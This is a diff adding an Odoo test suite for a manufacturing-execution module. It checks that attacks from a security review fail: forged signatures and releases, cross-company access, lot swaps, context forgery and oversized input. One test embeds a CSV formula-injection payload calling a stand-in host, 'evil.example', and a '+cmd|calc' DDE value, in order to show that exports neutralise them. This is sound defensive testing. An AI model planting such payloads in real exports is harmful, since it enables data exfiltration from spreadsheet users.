@@ -1,0 +1,397 @@
+"""Attacks from the hostile review (issue 9), one test per finding, through the plain ORM as
+JSON-2 exposes it (``create`` / ``write`` / ``unlink`` / public methods), another company's
+user, crafted context keys and database cascades. Each proves the attack fails and that
+nothing changed. These stay in the suite for good."""
+import psycopg2
+
+from odoo.exceptions import AccessError, UserError
+from odoo.tests import new_test_user, tagged
+from odoo.tools import mute_logger
+
+from .common import PASSWORDS, MesCase
+
+REFUSED = UserError  # AccessError is a UserError: either refusal counts
+
+
+@tagged('post_install', '-at_install', 'mes_adversarial')
+class TestAdversarial(MesCase):
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        env = cls.env
+        cls.company_b = env['res.company'].create({'name': 'Plant B (hostile)'})
+        groups = ('mes_bridge.group_mes_supervisor,mes_bridge.group_mes_quality_manager,'
+                  'mes_bridge.group_mes_admin,mrp.group_mrp_manager')
+        cls.user_b = new_test_user(env, 'mes_b_admin', groups=groups, password='b-Secret-2026',
+                                   company_id=cls.company_b.id,
+                                   company_ids=[(6, 0, [cls.company_b.id])], name='Bob of B')
+        cls.operator2 = new_test_user(env, 'mes_operator2', groups='mes_bridge.group_mes_operator',
+                                      password='operator2-Secret-2026', name='Omar Operator')
+        cls.resin_lot_hold = env['stock.lot'].create({
+            'product_id': cls.resin.id, 'name': 'RES-HOLD', 'mes_release_state': 'on_hold'})
+        env['stock.quant']._update_available_quantity(cls.resin, cls.stock_location, 50,
+                                                      lot_id=cls.resin_lot_hold)
+
+    def column_exists(self, table, column):
+        self.env.cr.execute("""SELECT 1 FROM information_schema.columns
+                                WHERE table_name = %s AND column_name = %s""", (table, column))
+        return bool(self.env.cr.fetchone())
+
+    # -- 1. signing passwords stored in clear --------------------------------------------
+    def test_f01_signing_credentials_are_never_stored(self):
+        for model in ('mes.sign.wizard', 'mes.step.record', 'mes.exception.disposition'):
+            Model = self.env[model]
+            for fname in ('login', 'password'):
+                self.assertFalse(Model._fields[fname].store, '%s.%s is stored' % (model, fname))
+                self.assertFalse(self.column_exists(Model._table, fname),
+                                 '%s has a %s column' % (Model._table, fname))
+        # the dialog still signs: the button hands the credentials over in its context
+        production = self.create_production()
+        exception = self.env['mes.exception'].create({
+            'description': 'Scratch on barrel', 'production_id': production.id})
+        wizard = self.env['mes.exception.disposition'].with_user(self.supervisor).create({
+            'exception_ids': [(6, 0, exception.ids)], 'disposition': 'scrap',
+            'note': 'Scrapped', 'login': 'mes_supervisor', 'password': PASSWORDS['supervisor']})
+        wizard.with_context(mes_login='mes_supervisor',
+                            mes_password=PASSWORDS['supervisor']).action_confirm()
+        self.assertEqual(exception.state, 'dispositioned')
+        # nothing of the password can be read back, by anyone
+        self.env.invalidate_all()
+        rows = self.env['mes.exception.disposition'].sudo().search_read(
+            [('id', '=', wizard.id)], ['login', 'password'])
+        self.assertFalse(rows[0]['password'])
+        self.env.cr.execute('SELECT * FROM mes_exception_disposition WHERE id = %s', [wizard.id])
+        self.assertNotIn(PASSWORDS['supervisor'], repr(self.env.cr.fetchall()))
+
+    # -- 2. faked release ----------------------------------------------------------------
+    def test_f02_release_cannot_be_written_or_created(self):
+        production = self.create_production()
+        forged = {'mes_release_date': '2026-01-01 08:00:00',
+                  'mes_released_by_id': self.supervisor.id, 'mes_bom_version': 1}
+        for user in (self.operator, self.supervisor, self.planner):
+            with self.subTest(user=user.login), self.assertRaises(REFUSED):
+                production.with_user(user).write(forged)
+        self.assertFalse(production.mes_release_date)
+        self.assertEqual(production.mes_state, 'not_released')
+        self.assertFalse(production.mes_step_execution_ids)
+        with self.assertRaises(REFUSED):
+            self.env['mrp.production'].with_user(self.planner).create(dict(
+                forged, product_id=self.syringe.id, product_qty=1, bom_id=self.bom.id))
+        # the real release is recorded in the audit trail, with who did it
+        production.with_user(self.supervisor).action_mes_release()
+        entry = self.env['mes.audit.entry'].search([
+            ('res_model', '=', 'mrp.production'), ('res_id', '=', production.id),
+            ('field_name', '=', 'mes_released_by_id')])
+        self.assertEqual((entry.user_id, entry.new_value), (self.supervisor, str(self.supervisor.id)))
+        with self.assertRaises(REFUSED):
+            production.with_user(self.planner).unlink()
+        self.assertTrue(production.exists())
+
+    # -- 3. work order deleted with its recorded steps -----------------------------------
+    def test_f03_work_order_with_steps_cannot_be_deleted(self):
+        production = self.released_production()
+        molding = self.workorders(production)[0]
+        self.run_molding(molding)
+        steps = molding.mes_step_execution_ids
+        for env_user in (self.operator, self.planner):
+            with self.subTest(user=env_user.login), self.assertRaises(REFUSED):
+                molding.with_user(env_user).unlink()
+        with self.assertRaises(UserError):
+            molding.sudo().unlink()
+        # the database itself refuses the cascade
+        with self.assertRaises(psycopg2.errors.ForeignKeyViolation), \
+                mute_logger('odoo.sql_db'), self.env.cr.savepoint():
+            self.env.cr.execute('DELETE FROM mrp_workorder WHERE id = %s', [molding.id])
+        self.assertEqual(len(steps.exists()), len(steps))
+        self.assertTrue(all(s.state == 'done' for s in steps))
+
+    # -- 4. another company's records through superuser paths ----------------------------
+    def test_f04_other_company_cannot_sign_unlock_or_disposition(self):
+        production = self.create_production()
+        exception = self.env['mes.exception'].create({
+            'description': 'Wrong label', 'production_id': production.id})
+        signatures_before = self.env['mes.signature'].search_count([])
+        bom_as_b = self.bom.with_user(self.user_b)
+        exception_as_b = exception.with_user(self.user_b)
+        with self.assertRaises(AccessError):
+            bom_as_b.mes_unlock_for_correction('take over', 'mes_b_admin', 'b-Secret-2026')
+        with self.assertRaises(AccessError):
+            exception_as_b.mes_sign('approved', 'mes_b_admin', 'b-Secret-2026', 'mine now')
+        with self.assertRaises(AccessError):
+            exception_as_b.action_disposition('use_as_is', 'fine', 'mes_b_admin', 'b-Secret-2026')
+        exception.with_user(self.supervisor).action_disposition(
+            'rework', 'Relabelled', 'mes_supervisor', PASSWORDS['supervisor'])
+        with self.assertRaises(AccessError):
+            exception_as_b.mes_unlock_for_correction('reopen', 'mes_b_admin', 'b-Secret-2026')
+        self.assertEqual(self.bom.mes_approval_state, 'approved')
+        self.assertEqual(exception.state, 'dispositioned')
+        self.assertEqual(self.env['mes.signature'].search_count([]), signatures_before + 1)
+
+    # -- 5. a verified scan is binding ---------------------------------------------------
+    def test_f05_consumed_lot_cannot_be_swapped_after_the_scan(self):
+        production = self.released_production()
+        molding = self.workorders(production)[0]
+        self.run_molding(molding)
+        resin_line = production.move_raw_ids.filtered(
+            lambda m: m.product_id == self.resin).move_line_ids
+        self.assertEqual(resin_line.lot_id, self.resin_lot)
+        with self.assertRaises(UserError):
+            resin_line.with_user(self.operator).write({'lot_id': self.resin_lot_hold.id})
+        with self.assertRaises(UserError):
+            resin_line.with_user(self.planner).write({'lot_id': self.resin_lot_hold.id})
+        self.assertEqual(resin_line.lot_id, self.resin_lot)
+        move = resin_line.move_id
+        with self.assertRaises(UserError):
+            self.env['stock.move.line'].with_user(self.planner).create(dict(
+                move._prepare_move_line_vals(), lot_id=self.resin_lot_hold.id, quantity=1))
+        self.assertEqual(move.move_line_ids, resin_line)
+        # whatever path swaps it anyway, the order cannot be completed with it
+        resin_line.sudo().lot_id = self.resin_lot_hold
+        self.run_assembly(self.workorders(production)[1])
+        with self.assertRaisesRegex(UserError, 'which no scan verified'):
+            production.with_user(self.supervisor).button_mark_done()
+        self.assertNotEqual(production.state, 'done')
+
+    # -- 6. a blocking exception made harmless by a plain write --------------------------
+    def test_f06_lowering_severity_needs_a_reason_and_a_signature(self):
+        production = self.create_production()
+        exception = self.env['mes.exception'].create({
+            'description': 'Sterility indicator failed', 'production_id': production.id,
+            'severity': 'critical'})
+        self.assertTrue(exception.blocking)
+        for severity in ('major', 'minor'):
+            with self.subTest(severity=severity), self.assertRaises(UserError):
+                exception.with_user(self.supervisor).write({'severity': severity})
+        self.assertEqual((exception.severity, exception.blocking), ('critical', True))
+        as_supervisor = exception.with_user(self.supervisor)
+        with self.assertRaises(UserError):
+            as_supervisor.action_mes_reclassify('minor', '', 'mes_supervisor',
+                                                PASSWORDS['supervisor'])
+        refused = as_supervisor.action_mes_reclassify('minor', 'Indicator misread',
+                                                      'mes_supervisor', 'wrong')
+        self.assertFalse(refused['reclassified'])
+        self.assertTrue(exception.blocking)
+        with self.assertRaises(AccessError):
+            exception.with_user(self.operator).action_mes_reclassify(
+                'minor', 'mine', 'mes_operator', PASSWORDS['operator'])
+        done = as_supervisor.action_mes_reclassify('minor', 'Indicator misread, retested OK',
+                                                   'mes_supervisor', PASSWORDS['supervisor'])
+        self.assertTrue(done['reclassified'])
+        self.assertFalse(exception.blocking)
+        entry = self.env['mes.audit.entry'].search([
+            ('res_model', '=', 'mes.exception'), ('res_id', '=', exception.id),
+            ('field_name', '=', 'severity'), ('operation', '=', 'write')])
+        self.assertEqual((entry.old_value, entry.new_value, entry.user_id, entry.reason),
+                         ('critical', 'minor', self.supervisor, 'Indicator misread, retested OK'))
+        # raising it needs nothing more than a write
+        exception.with_user(self.supervisor).write({'severity': 'major'})
+        self.assertEqual(exception.severity, 'major')
+
+    # -- 7. forged exception facts at create ---------------------------------------------
+    def test_f07_exception_facts_cannot_be_forged_at_create(self):
+        production = self.create_production()
+        Exception_ = self.env['mes.exception'].with_user(self.operator)
+        base = {'description': 'Forged', 'production_id': production.id}
+        forgeries = [
+            {'raised_by_id': self.qa_manager.id},
+            {'date': '2020-01-01 00:00:00'},
+            {'name': 'EXC/2020/00001'},
+            {'state': 'dispositioned'},
+            {'disposition': 'use_as_is', 'dispositioned_by_id': self.qa_manager.id},
+        ]
+        before = self.env['mes.exception'].search_count([])
+        for forged in forgeries:
+            with self.subTest(forged=forged), self.assertRaises(AccessError):
+                Exception_.create(dict(base, **forged))
+        self.assertEqual(self.env['mes.exception'].search_count([]), before)
+        honest = Exception_.create(base)
+        self.assertEqual((honest.raised_by_id, honest.state), (self.operator, 'open'))
+        # the operator who raised it cannot disposition it through a forged raiser either
+        with self.assertRaises(UserError):
+            honest.with_user(self.supervisor).write({'raised_by_id': self.supervisor.id})
+        self.assertEqual(honest.raised_by_id, self.operator)
+
+    # -- 8. signing outside the workflow -------------------------------------------------
+    def test_f08_mes_sign_only_inside_each_workflow(self):
+        production = self.released_production()
+        assembly = self.workorders(production)[1]
+        signature_step = self.steps(assembly)[-1]
+        self.assertEqual(signature_step.step_type, 'signature')
+        with self.assertRaises(UserError):
+            signature_step.with_user(self.operator).mes_sign(
+                'performed', 'mes_operator', PASSWORDS['operator'])
+        exception = self.env['mes.exception'].create({
+            'description': 'Burr on tip', 'production_id': production.id})
+        with self.assertRaises(UserError):
+            exception.with_user(self.supervisor).mes_sign(
+                'approved', 'mes_supervisor', PASSWORDS['supervisor'], 'early')
+        self.assertFalse(signature_step.mes_signature_ids | exception.mes_signature_ids)
+        self.assertEqual((signature_step.state, exception.state), ('pending', 'open'))
+        # the real flow is still open: the disposition signs the exception
+        outcome = exception.with_user(self.supervisor).action_disposition(
+            'use_as_is', 'Cosmetic', 'mes_supervisor', PASSWORDS['supervisor'])
+        self.assertTrue(outcome['signed'])
+
+    # -- 11. an approved master record changed behind its approval -----------------------
+    def test_f11_approved_master_record_is_locked_including_by_products(self):
+        self.assertEqual(self.bom.mes_approval_state, 'approved')
+        hash_before = self.bom._mes_content_hash()
+        with self.assertRaises(UserError):
+            self.env['mrp.bom.byproduct'].with_user(self.planner).create({
+                'bom_id': self.bom.id, 'product_id': self.label.id, 'product_qty': 1})
+        self.assertFalse(self.bom.byproduct_ids)
+        self.assertEqual(self.bom._mes_content_hash(), hash_before)
+        self.assertEqual(self.bom.mes_signature_status, 'signed')
+        with self.assertRaises(UserError):
+            self.env['mrp.bom'].with_user(self.planner).create({
+                'product_tmpl_id': self.syringe.product_tmpl_id.id, 'product_qty': 1,
+                'mes_approval_state': 'approved', 'mes_approved_by_id': self.qa_manager.id})
+        # by-products of a draft are part of what the approval signs
+        v2 = self.env['mrp.bom'].browse(
+            self.bom.with_user(self.planner).action_mes_new_version()['res_id'])
+        draft_hash = v2._mes_content_hash()
+        self.env['mrp.bom.byproduct'].with_user(self.planner).create({
+            'bom_id': v2.id, 'product_id': self.label.id, 'product_qty': 1})
+        self.assertNotEqual(v2._mes_content_hash(), draft_hash)
+        # reordering an approved record is audited
+        self.bom.with_user(self.planner).write({'sequence': 42})
+        self.assertTrue(self.env['mes.audit.entry'].search([
+            ('res_model', '=', 'mrp.bom'), ('res_id', '=', self.bom.id),
+            ('field_name', '=', 'sequence')]))
+
+    # -- 9. segregation of duties across the whole order ---------------------------------
+    def test_f09_verifier_performed_nothing_of_the_order_and_it_is_complete(self):
+        v2 = self.env['mrp.bom'].browse(
+            self.bom.with_user(self.planner).action_mes_new_version()['res_id'])
+        assembly_op = v2.operation_ids.filtered(lambda o: o.name == 'Assembly')
+        self.env['mes.operation.step'].create({
+            'operation_id': assembly_op.id, 'sequence': 99, 'name': 'Batch record verified',
+            'step_type': 'signature', 'signature_meaning': 'verified'})
+        self.approve(v2)
+        production = self.create_production(bom=v2)
+        production.with_user(self.supervisor).action_mes_release()
+        molding, assembly = self.workorders(production)
+        # the supervisor records one molding step, the operator everything else of assembly
+        molding.with_user(self.supervisor).button_start()
+        first = self.steps(molding)[0]
+        self.assertTrue(first.with_user(self.supervisor).mes_record()['accepted'])
+        self.run_assembly(assembly)
+        verify = self.steps(assembly)[-1]
+        # molding is still open: nothing vouches for it yet
+        with self.assertRaisesRegex(UserError, 'still open'):
+            verify.with_user(self.operator2).mes_record(
+                login='mes_operator2', password='operator2-Secret-2026')
+        molding_steps = self.steps(molding)
+        self.record(molding_steps[1], code='RES-001')
+        self.record(molding_steps[2], value='231.5')
+        self.record(molding_steps[3], code='MOULD-07')
+        # the supervisor performed a step of this order (in another work order): refused
+        with self.assertRaisesRegex(AccessError, 'Segregation of duties'):
+            verify.with_user(self.supervisor).mes_record(
+                login='mes_supervisor', password=PASSWORDS['supervisor'])
+        self.assertEqual(verify.state, 'pending')
+        self.assertFalse(verify.mes_signature_ids)
+        outcome = verify.with_user(self.operator2).mes_record(
+            login='mes_operator2', password='operator2-Secret-2026')
+        self.assertTrue(outcome['accepted'])
+        verify.invalidate_recordset()
+        self.assertEqual(verify.mes_signature_ids.signer_id, self.operator2)
+
+    # -- 12. CSV / XLSX formula injection --------------------------------------------------
+    def test_f12_exports_never_carry_live_formulas(self):
+        import csv
+        import io
+        import zipfile
+        evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        self.resin_lot.with_user(self.qa_manager).write({
+            'mes_release_state': 'on_hold', 'mes_release_reason': evil})
+        wizard = self.env['mes.audit.export'].with_user(self.inspector).create({
+            'res_model': 'stock.lot', 'res_id': self.resin_lot.id, 'file_format': 'csv'})
+        action = wizard.action_export()
+        attachment = self.env['ir.attachment'].browse(int(action['url'].split('/')[3].split('?')[0]))
+        cells = [c for row in csv.reader(io.StringIO(attachment.raw.decode('utf-8-sig')))
+                 for c in row]
+        self.assertIn("'" + evil, cells)
+        self.assertFalse([c for c in cells if c.startswith(('=', '+', '@'))])
+        # the recall XLSX keeps user text as text cells, never formulas
+        self.resin_lot.sudo().name = '+cmd|calc'
+        recall = self.env['mes.recall.wizard'].with_user(self.qa_manager).create({
+            'lot_id': self.resin_lot.id})
+        action = recall.action_export_xlsx()
+        data = self.env['ir.attachment'].browse(
+            int(action['url'].split('/')[3].split('?')[0])).raw
+        sheet = zipfile.ZipFile(io.BytesIO(data)).read('xl/worksheets/sheet1.xml').decode()
+        self.assertNotIn('<f>', sheet)
+        strings = zipfile.ZipFile(io.BytesIO(data)).read('xl/sharedStrings.xml').decode()
+        self.assertIn('+cmd|calc', strings)
+
+    # -- 14. unbounded trace ---------------------------------------------------------------
+    def test_f14_trace_depth_is_bounded_and_typed(self):
+        for depth in (True, 10 ** 12, 0, -1, '3', 101):
+            with self.subTest(depth=depth), self.assertRaisesRegex(UserError, 'Trace depth'):
+                self.resin_lot.with_user(self.inspector).mes_trace('forward', depth=depth)
+        self.assertEqual(self.resin_lot.with_user(self.inspector).mes_trace(
+            'forward', depth=100)['lot_id'], self.resin_lot.id)
+
+    # -- 16. unbounded text and the whole-chain walk ---------------------------------------
+    def test_f16_text_is_bounded_and_chain_walk_is_for_reviewers(self):
+        production = self.released_production()
+        molding = self.workorders(production)[0]
+        molding.with_user(self.operator).button_start()
+        step = self.steps(molding)[0]
+        with self.assertRaisesRegex(UserError, 'too long'):
+            self.record(step, comment='x' * (10 * 1024 * 1024))
+        self.assertEqual(step.state, 'pending')
+        with self.assertRaises(AccessError):
+            self.env['mes.audit.entry'].with_user(self.operator).action_mes_verify_chain()
+        with self.assertRaises(AccessError):
+            self.env['mes.audit.entry'].with_user(self.operator).verify_chain()
+        self.assertFalse(self.env['mes.audit.entry'].with_user(self.inspector).verify_chain())
+
+    # -- 17. forged origin and reason in the context ---------------------------------------
+    def test_f17_context_cannot_name_the_origin_or_reason(self):
+        lot = self.stopper_lot
+        lot.with_user(self.qa_manager).with_context(
+            mes_origin='kiosk', mes_audit_reason='Approved by the CEO', cron_id=1,
+        ).write({'mes_release_state': 'on_hold', 'mes_release_reason': 'Supplier notice 7'})
+        entry = self.env['mes.audit.entry'].search([
+            ('res_model', '=', 'stock.lot'), ('res_id', '=', lot.id),
+            ('field_name', '=', 'mes_release_state'), ('operation', '=', 'write')])
+        self.assertEqual(entry.reason, 'Supplier notice 7')
+        self.assertNotEqual(entry.origin, 'kiosk')
+        production = self.create_production()
+        exception = self.env['mes.exception'].with_user(self.operator).with_context(
+            mes_audit_reason='Nothing to see').create({
+                'description': 'Dent', 'production_id': production.id})
+        created = self.env['mes.audit.entry'].search([
+            ('res_model', '=', 'mes.exception'), ('res_id', '=', exception.id)])
+        self.assertTrue(created)
+        self.assertFalse(set(created.mapped('reason')) & {'Nothing to see'})
+
+    # -- 18. hostile measurement and scan input --------------------------------------------
+    def test_f18_measurements_and_scans_are_strict(self):
+        production = self.released_production()
+        molding = self.workorders(production)[0]
+        molding.with_user(self.operator).button_start()
+        instruction, material, temperature, _equipment = self.steps(molding)
+        self.record(instruction)
+        with self.assertRaisesRegex(UserError, 'not a label'):
+            self.record(material, code='RES-\x00001')
+        with self.assertRaisesRegex(UserError, 'not a label'):
+            self.record(material, code='R' * 5000)
+        self.assertEqual(material.state, 'pending')
+        self.assertTrue(self.record(material, code='RES-001')['accepted'])
+        for raw in ('1e30', '2_3_0', 'NaN', '0x10', '230 °C', '1,234.5', '9' * 20):
+            with self.subTest(raw=raw), self.assertRaisesRegex(UserError, 'is not a number'):
+                self.record(temperature, value=raw)
+        self.assertEqual(temperature.state, 'pending')
+        self.assertFalse(production.mes_exception_ids)
+        self.assertTrue(self.record(temperature, value='231,5')['accepted'])
+        self.assertEqual(temperature.value, 231.5)
+
+    def test_f16_audited_text_fields_refuse_runaway_text(self):
+        with self.assertRaisesRegex(UserError, 'too long'):
+            self.stopper_lot.with_user(self.qa_manager).write({
+                'mes_release_state': 'on_hold', 'mes_release_reason': 'x' * 200000})
+        self.assertEqual(self.stopper_lot.mes_release_state, 'released')
